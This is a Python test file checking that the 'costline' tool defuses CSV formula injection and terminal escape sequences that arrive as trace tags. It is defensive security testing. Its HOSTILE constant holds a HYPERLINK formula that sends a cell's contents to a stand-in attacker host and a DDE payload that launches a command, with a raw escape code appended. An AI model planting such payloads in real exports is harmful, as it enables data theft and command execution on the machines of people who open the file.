"""Hostile tag values from a sender reach finance's CSV and terminal defused (issue 14, item 5).

A real `costline serve` takes a trace over OTLP/HTTP whose tags are spreadsheet formulas and
terminal escape sequences, writes them to its SQLite ledger, and `costline report` run as a
process prints them as CSV and as a table: no CSV text cell starts a formula (OWASP: a
leading `'`), no control character reaches the terminal raw, and the cost column stays a
number. (tests/ledger/test_safe_cells.py covers every report command in process.)
"""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
import urllib.request

from tests.processor.spans import llm, new_trace_id, request, span
from tests.reliability.serve_proc import ServeProcess

HOSTILE = {"feature": '=HYPERLINK("http://evil.example/?"&A1,"click")', "customer_id": "+cmd|' /C calc'!A0\x1b[2J"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _send(http: str, body: bytes) -> int:
    req = urllib.request.Request(
        f"http://{http}/v1/traces", data=body, method="POST", headers={"Content-Type": "application/x-protobuf"}
    )
    with urllib.request.urlopen(req, timeout=10) as answer:
        return answer.status


def _report(ledger, fmt: str) -> str:
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "costline_processor.cli",
            "report",
            "--ledger",
            str(ledger),
            "--by",
            "feature,customer_id",
            "--since",
            "2000-01-01",
            "--format",
            fmt,
        ],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_formulas_and_escapes_sent_as_tags_are_defused_in_reports(tmp_path, figures):
    ledger = tmp_path / "ledger.db"
    t = new_trace_id()
    now = time.time_ns()
    root = span(
        t, "POST /ask", start=now, costline__feature=HOSTILE["feature"], costline__customer_id=HOSTILE["customer_id"]
    )
    call = llm(t, root, model="gpt-4o-mini", input_tokens=1000, output_tokens=100, start=now)
    with ServeProcess(tmp_path, "--ledger", str(ledger), "--trace-wait", "0.2") as srv:
        assert _send(srv.http, request([root, call], "chat-api").SerializeToString()) == 200
        time.sleep(1.0)
        assert srv.stop() == 0
    rows = list(csv.reader(io.StringIO(_report(ledger, "csv"))))
    header, body = rows[0], rows[1:]
    cells = [c for r in body for c in r]
    feature = body[0][header.index("feature")]
    assert feature == "'" + HOSTILE["feature"]
    assert not any(c.startswith(FORMULA_STARTS) for c in cells)
    assert not any(ch in c for c in cells for ch in ("\x1b", "\x07"))
    float(body[0][header.index("cost_usd")])  # the money is still a number
    table = _report(ledger, "table")
    assert "\x1b" not in table and "\\u001b" in table
    figures(
        f"hostile tags end to end: 1 call through costline serve -> ledger -> report; CSV {len(cells)} cells, "
        f"0 starting a formula, 0 raw control characters; table 0 raw ESC"
    )
